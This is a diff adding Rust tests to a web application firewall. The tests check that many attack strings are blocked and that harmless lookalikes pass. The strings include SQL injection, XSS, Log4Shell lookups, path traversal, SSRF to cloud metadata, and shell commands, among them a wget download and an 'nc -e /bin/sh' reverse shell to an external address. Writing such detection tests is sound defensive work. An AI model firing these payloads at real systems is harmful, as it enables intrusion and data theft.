@@ -152,6 +152,105 @@ fn json_body_values_are_inspected() {
     );
 }
 
+const INJECTION: &str = "1' UNION SELECT password FROM users--";
+
+fn json_rules(body: &str) -> Vec<&'static str> {
+    let filter = filter();
+    let headers = with_body("POST", "application/json", body);
+    assess(&filter, &headers, body).rule_ids()
+}
+
+fn nested(depth: usize, value: &str) -> String {
+    format!(
+        r#"{{"q":{}"{value}"{}}}"#,
+        "[".repeat(depth),
+        "]".repeat(depth)
+    )
+}
+
+#[test]
+fn deep_json_injection_is_blocked() {
+    for depth in [31, 40, 200] {
+        let body = nested(depth, INJECTION);
+        let rules = json_rules(&body);
+        assert!(
+            rules.iter().any(|id| id.starts_with("sqli-")),
+            "depth {depth}: {rules:?}"
+        );
+    }
+}
+
+#[test]
+fn deep_json_scores_as_anomaly() {
+    let body = nested(40, "plain words");
+    let filter = filter();
+    let headers = with_body("POST", "application/json", &body);
+    let assessment = assess(&filter, &headers, &body);
+    assert_eq!(assessment.rule_ids(), vec!["limit-json-depth"]);
+    assert!(filter.verdict(&assessment).is_some());
+}
+
+#[test]
+fn moderately_nested_json_passes() {
+    let body = nested(20, "plain words");
+    assert_eq!(json_rules(&body), Vec::<&str>::new());
+}
+
+#[test]
+fn json_rejected_by_strict_parser_is_inspected() {
+    let bodies = [
+        format!("\u{feff}{{\"q\": \"{INJECTION}\"}}"),
+        format!(r#"{{"x":"\ud800","q":"{INJECTION}"}}"#),
+        format!(r#"{{"q":"{INJECTION}","q":"ok"}}"#),
+    ];
+    for body in bodies {
+        let rules = json_rules(&body);
+        assert!(
+            rules.iter().any(|id| id.starts_with("sqli-")),
+            "{body}: {rules:?}"
+        );
+    }
+}
+
+#[test]
+fn lenient_json_lookalikes_pass() {
+    let bodies = [
+        "\u{feff}{\"q\": \"union of select members\"}",
+        r#"{"x":"\ud800","q":"don't stop"}"#,
+        r#"{"q":"first","q":"second"}"#,
+    ];
+    for body in bodies {
+        assert_eq!(json_rules(body), Vec::<&str>::new(), "{body}");
+    }
+}
+
+fn xml_blocked(body: &str) -> bool {
+    blocked(&with_body("POST", "application/xml", body), body)
+}
+
+#[test]
+fn xml_cdata_and_comments_are_inspected() {
+    let bodies = [
+        format!("<a><q><![CDATA[{INJECTION}]]></q></a>"),
+        "<a><q><![CDATA[${jndi:ldap://x/a}]]></q></a>".to_string(),
+        "<a><q>1' UNI<!-- x -->ON SELECT password FROM users--</q></a>".to_string(),
+    ];
+    for body in bodies {
+        assert!(xml_blocked(&body), "{body}");
+    }
+}
+
+#[test]
+fn xml_cdata_lookalikes_pass() {
+    let bodies = [
+        "<a><q><![CDATA[Tom & Jerry <3 cartoons]]></q></a>",
+        "<a><!-- generated --><q>select a plan</q></a>",
+    ];
+    for body in bodies {
+        assert!(!xml_blocked(body), "{body}");
+    }
+}
+
 #[test]
 fn multipart_file_name_is_inspected() {
     let body = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\nx\r\n--B--\r\n";
@@ -338,19 +437,459 @@ fn time_rules(filter: &Filter, size: usize) -> std::time::Duration {
     started.elapsed()
 }
 
+/// Percent-encodes every byte that is not an ASCII letter or digit.
+fn encode(value: &str) -> String {
+    value
+        .bytes()
+        .map(|byte| {
+            if byte.is_ascii_alphanumeric() {
+                (byte as char).to_string()
+            } else {
+                format!("%{byte:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Returns the ids of the rules that match `value` sent as the query
+/// argument `q`.
+fn query_rules(value: &str) -> Vec<&'static str> {
+    assess(
+        &filter(),
+        &request(&format!("/search?q={}", encode(value))),
+        "",
+    )
+    .rule_ids()
+}
+
+fn query_blocked(value: &str) -> bool {
+    blocked(&request(&format!("/search?q={}", encode(value))), "")
+}
+
+fn assert_all_blocked(family: &str, values: &[&str]) {
+    for value in values {
+        assert!(query_blocked(value), "{family} attack passed: {value:?}");
+    }
+}
+
+fn assert_all_pass(family: &str, values: &[&str]) {
+    for value in values {
+        assert_eq!(
+            query_rules(value),
+            Vec::<&str>::new(),
+            "{family} lookalike matched: {value:?}"
+        );
+    }
+}
+
 #[test]
-fn rules_run_in_linear_time() {
+fn sql_injection_is_blocked() {
+    assert_all_blocked(
+        "sqli",
+        &[
+            "1' or '1'='1",
+            "1 UNION/**/SELECT password FROM users",
+            "-1 UN/**/ION SEL/**/ECT 1,2,3",
+            "'; DROP TABLE users; --",
+            "1 AND SLEEP(5)",
+            "admin'--",
+            "1' aNd 1=1 -- -",
+            "x' AND 1=(SELECT COUNT(*) FROM accounts); --",
+            "1\u{2018} OR \u{2018}1\u{2018}=\u{2018}1",
+            "' uNiOn SeLeCt null, version() #",
+            "1;waitfor delay '0:0:5'--",
+            "') or ('a'='a",
+            "1 or 2>1",
+            "'||(select extractvalue(1,concat(0x7e,user())))||'",
+            "1 and (select 1 from pg_sleep(5))",
+            "x' and current_user::int=1--",
+            "; SET @old=@@sql_mode",
+        ],
+    );
+}
+
+#[test]
+fn sql_lookalikes_pass() {
+    assert_all_pass(
+        "sqli",
+        &[
+            "select a plan",
+            "O'Reilly",
+            "drop me a line",
+            "rock and roll",
+            "Tom and Jerry",
+            "what's new in 2024",
+            "union station to the airport",
+            "\"select\" is a button",
+            "insert coin",
+            "update my address",
+            "don't delete from the list",
+            "best of 2024 - top 10",
+        ],
+    );
+}
+
+#[test]
+fn cross_site_scripting_is_blocked() {
+    assert_all_blocked(
+        "xss",
+        &[
+            "<script>alert(1)</script>",
+            "<ScRiPt >alert(document.cookie)</sCrIpT>",
+            "<img src=x onerror=alert(1)>",
+            "<svg/onload=alert(1)>",
+            "javascript:alert(1)",
+            "jav&#x09;ascript:alert(1)",
+            "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
+            "\\u003cscript\\u003ealert(1)",
+            "\"><iframe src=//evil.example>",
+            "(![]+[])[+!+[]]",
+            "document/**/.cookie",
+            "window[\"alert\"](1)",
+            "+ADw-script+AD4-alert(1)",
+        ],
+    );
+    // Double URL encoding of `<script>`.
+    assert!(blocked(&request("/search?q=%253Cscript%253Ealert(1)"), ""));
+}
+
+#[test]
+fn markup_lookalikes_pass() {
+    assert_all_pass(
+        "xss",
+        &[
+            "I <3 cats",
+            "a < b and c > d",
+            "onboarding checklist",
+            "**bold** and `code` in markdown",
+            "JavaScript tutorial for beginners",
+            "the document is on the window sill",
+        ],
+    );
+}
+
+#[test]
+fn unix_command_injection_is_blocked() {
+    assert_all_blocked(
+        "cmdi",
+        &[
+            ";cat /etc/passwd",
+            "| id",
+            "$(whoami)",
+            "`uname -a`",
+            "x;c'a't /etc/passwd",
+            "x;c\\at /etc/passwd",
+            "x;\"c\"a\"t\" /etc/hosts",
+            ";cat${IFS}/etc/passwd",
+            ";cat$IFS/etc/passwd",
+            "{cat,/etc/passwd}",
+            "/???/??t /etc/passwd",
+            "x; sh -c 'id'",
+            ":(){ :|:& };:",
+            "() { :; }; /bin/bash -c id",
+            "una$$me -a",
+            "x && wget http://203.0.113.9/x.sh",
+            "127.0.0.1; nc -e /bin/sh 203.0.113.9 4444",
+            "{,ifconfig}",
+            "a=id;$a",
+        ],
+    );
+}
+
+#[test]
+fn windows_command_injection_is_blocked() {
+    assert_all_blocked(
+        "cmdi-windows",
+        &[
+            "& ping -n 3 127.0.0.1",
+            "| type c:\\windows\\win.ini",
+            "x & c^m^d /c dir",
+            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+            "for /f %i in (a.txt) do echo %i",
+            "if not defined X (",
+            "IF \"%~1\"==\"/?\" goto help",
+            "%COMSPEC% /c whoami",
+        ],
+    );
+}
+
+#[test]
+fn command_lookalikes_pass() {
+    assert_all_pass(
+        "cmdi",
+        &[
+            "wget vs curl",
+            "dogs; cat people",
+            "cat videos",
+            "time to eat",
+            "ping me tomorrow",
+            "Windows 11 for gamers",
+            "if you can",
+            "for sale in (Boston)",
+            "alias names",
+            "trap music",
+        ],
+    );
+}
+
+#[test]
+fn code_injection_is_blocked() {
+    assert_all_blocked(
+        "code",
+        &[
+            "<?php system($_GET['c']); ?>",
+            "system('id')",
+            "$_GET[cmd]",
+            "${'x'}",
+            "$f/*c*/()",
+            "allow_url_include=1",
+            "[php]echo 1;[/php]",
+            "${jndi:ldap://203.0.113.9/a}",
+            "${${lower:j}ndi:${lower:l}dap://x.example/a}",
+            "${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
+            "java.lang.Runtime.getRuntime().exec('id')",
+            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
+            "{{7*7}}",
+            "_$$ND_FUNC$$_function(){require('child_process').exec('id')}",
+            "require('child_process').exec('id')",
+        ],
+    );
+}
+
+#[test]
+fn code_lookalikes_pass() {
+    assert_all_pass(
+        "code",
+        &[
+            "price $5",
+            "PHP tutorial for beginners",
+            "$100 budget",
+            "Java tutorial",
+            "{ \"a\": 1 }",
+            "mustache {{ name }} template",
+        ],
+    );
+}
+
+#[test]
+fn path_traversal_is_blocked() {
+    assert_all_blocked(
+        "lfi",
+        &[
+            "../../etc/passwd",
+            "....//....//etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "/proc/self/environ",
+            "C:\\Windows\\System32\\drivers\\etc\\hosts",
+        ],
+    );
+    let encoded = [
+        "/file?name=..%2f..%2fetc%2fpasswd",
+        "/file?name=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
+        "/file?name=%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
+        "/static/..%c0%af..%c0%afetc/passwd",
+    ];
+    for path in encoded {
+        assert!(blocked(&request(path), ""), "traversal passed: {path:?}");
+    }
+    assert!(blocked(&request("/.git/config"), ""));
+    assert!(blocked(&request("/backup.sql.gz"), ""));
+    assert!(!blocked(&request("/.well-known/security.txt"), ""));
+}
+
+fn path_rules(path: &str) -> Vec<&'static str> {
+    assess(&filter(), &request(path), "").rule_ids()
+}
+
+#[test]
+fn include_parameter_script_url_is_blocked() {
+    let attacks = [
+        "/index.php?page=http://evil.example/shell.txt",
+        "/index.php?template=https://evil.example/x.php?cmd=id",
+        "/view?file=%5C%5C203.0.113.9%5Cshare%5Cx",
+        "/index.php?include=https://evil.example/",
+    ];
+    for path in attacks {
+        assert!(blocked(&request(path), ""), "{path}");
+    }
+    let ordinary = [
+        "/index.php?page=about",
+        "/go?url=https://example.com/index.php",
+        "/index.php?page=https://example.com/docs/",
+        "/view?file=reports/2024.txt",
+        "/index.php?template=invoice",
+    ];
+    for path in ordinary {
+        assert_eq!(path_rules(path), Vec::<&str>::new(), "{path}");
+    }
+}
+
+#[test]
+fn sql_subquery_and_evasions_are_blocked() {
+    assert_all_blocked(
+        "sqli",
+        &[
+            "1 in ( select 1 )",
+            "if(7423=7423,1,0)",
+            "1.e(ascii(user))",
+            "name LIKE '",
+            "'{\"a\":1}' -> '$.a'",
+            "x=;set @a=1",
+            "x= and uid!=(",
+            "\" waitfor+delay '0:0:5'",
+            "admin@example.com\";",
+        ],
+    );
+    assert_all_pass(
+        "sqli",
+        &[
+            "Version 1.e is out",
+            "I like it",
+            "options (select all)",
+            "if you can",
+            "price: 5 (in stock)",
+        ],
+    );
+}
+
+#[test]
+fn separator_led_commands_are_blocked() {
+    assert_all_blocked(
+        "cmdi",
+        &[
+            ";ls -la /tmp",
+            "|| id -u",
+            ";\n.databases",
+            "cd /tmp;wget example.com",
+            "cat <<<'x'",
+            "v=u;cu$v\\rl example.com",
+            ";at 2:00 \"echo test\"",
+        ],
+    );
+    assert_all_pass(
+        "cmdi",
+        &[
+            "; -)",
+            "| pipe dreams",
+            "cd player; great sound",
+            "x=1; cost in $ dollars",
+            "<<<<<<< HEAD",
+        ],
+    );
+}
+
+#[test]
+fn remote_inclusion_and_ssrf_are_blocked() {
+    assert_all_blocked(
+        "rfi-ssrf",
+        &[
+            "http://203.0.113.9/shell.txt?",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "ftp://files.example/x.php",
+            "http://169.254.169.254/latest/meta-data/",
+            "http://metadata.google.internal/computeMetadata/v1/",
+            "http://2852039166/",
+            "http://0x7f000001/",
+            "gopher://127.0.0.1:6379/_INFO",
+            "http:127.0.0.1",
+        ],
+    );
+    assert_all_pass(
+        "rfi-ssrf",
+        &[
+            "https://example.com/a?b=1",
+            "see https://docs.example.org/guide",
+            "jane.doe+tag@example.com",
+        ],
+    );
+}
+
+#[test]
+fn protocol_attacks_are_blocked() {
+    assert!(blocked(
+        &request("/search?q=x%0d%0aSet-Cookie:%20session=attacker"),
+        ""
+    ));
+    assert!(blocked(
+        &request("/r?to=%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Length:%200"),
+        ""
+    ));
+    let mut scanner = request("/");
+    scanner[3].1 = b"sqlmap/1.7.2#stable (https://sqlmap.org)".to_vec();
+    assert!(blocked(&scanner, ""));
+    assert!(blocked(&request("/login?jsessionid=ABC123"), ""));
+    assert!(query_blocked("val)|(uid=*"));
+}
+
+#[test]
+fn nosql_and_orm_operators_are_blocked() {
+    assert!(blocked(&request("/users?name[$ne]=x"), ""));
+    assert!(blocked(
+        &request("/users?owner__profile__password__startswith=a"),
+        ""
+    ));
+    let headers = with_body("POST", "application/json", "");
+    assert!(blocked(&headers, r#"{"user": {"$where": "sleep(100)"}}"#));
+    assert!(!blocked(
+        &headers,
+        r#"{"$schema": "https://json-schema.org/draft/2020-12/schema"}"#
+    ));
+}
+
+#[test]
+fn ordinary_api_traffic_passes() {
+    let cases = [
+        (
+            "PATCH",
+            "application/json",
+            r#"{"bio":"I write SQL: select, insert, update. Also C++ and O'Reilly books.","tags":["wget","curl"]}"#,
+        ),
+        (
+            "PUT",
+            "application/json",
+            r#"{"snippet":"fn main() { println!(\"hi\"); }","lang":"rust"}"#,
+        ),
+        (
+            "POST",
+            "application/json",
+            r##"{"md":"# Title\n\n- item one\n- item two\n\n`code` and **bold**","name":"Zoë Ångström"}"##,
+        ),
+        (
+            "POST",
+            "application/x-www-form-urlencoded",
+            "comment=Drop+me+a+line+at+jane%40example.com&next=https%3A%2F%2Fexample.com%2Fthanks",
+        ),
+    ];
+    for (method, content_type, body) in cases {
+        let headers = with_body(method, content_type, body);
+        let assessment = assess(&filter(), &headers, body);
+        assert_eq!(assessment.rule_ids(), Vec::<&str>::new(), "body {body:?}");
+    }
+    let mut jwt = request("/api/me");
+    jwt.push((
+        "authorization".to_string(),
+        b"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
+            .to_vec(),
+    ));
+    jwt.push((
+        "cookie".to_string(),
+        format!("session={}; theme=dark", "a1B2c3D4".repeat(200)).into_bytes(),
+    ));
+    assert_eq!(assess(&filter(), &jwt, "").rule_ids(), Vec::<&str>::new());
+}
+
+#[test]
+fn rules_scale_linearly_from_one_to_two_mib() {
     let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
-    let small = (0..2)
-        .map(|_| time_rules(&filter, 64 * 1024))
+    let one = (0..2)
+        .map(|_| time_rules(&filter, 1024 * 1024))
         .min()
         .unwrap_or_default();
-    let large = time_rules(&filter, 1024 * 1024);
-    // 16 times the input; linear time gives a ratio near 16, so 64 leaves
-    // room for noise while catching quadratic behavior (a ratio near 256).
-    let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-9);
+    let two = time_rules(&filter, 2 * 1024 * 1024);
+    // Linear time gives a ratio near 2, quadratic time one near 4.
+    let ratio = two.as_secs_f64() / one.as_secs_f64().max(1e-9);
     assert!(
-        ratio < 64.0,
-        "1 MiB took {large:?}, 64 KiB took {small:?}, ratio {ratio:.1}"
+        ratio < 3.2,
+        "2 MiB took {two:?}, 1 MiB took {one:?}, ratio {ratio:.2}"
     );
 }
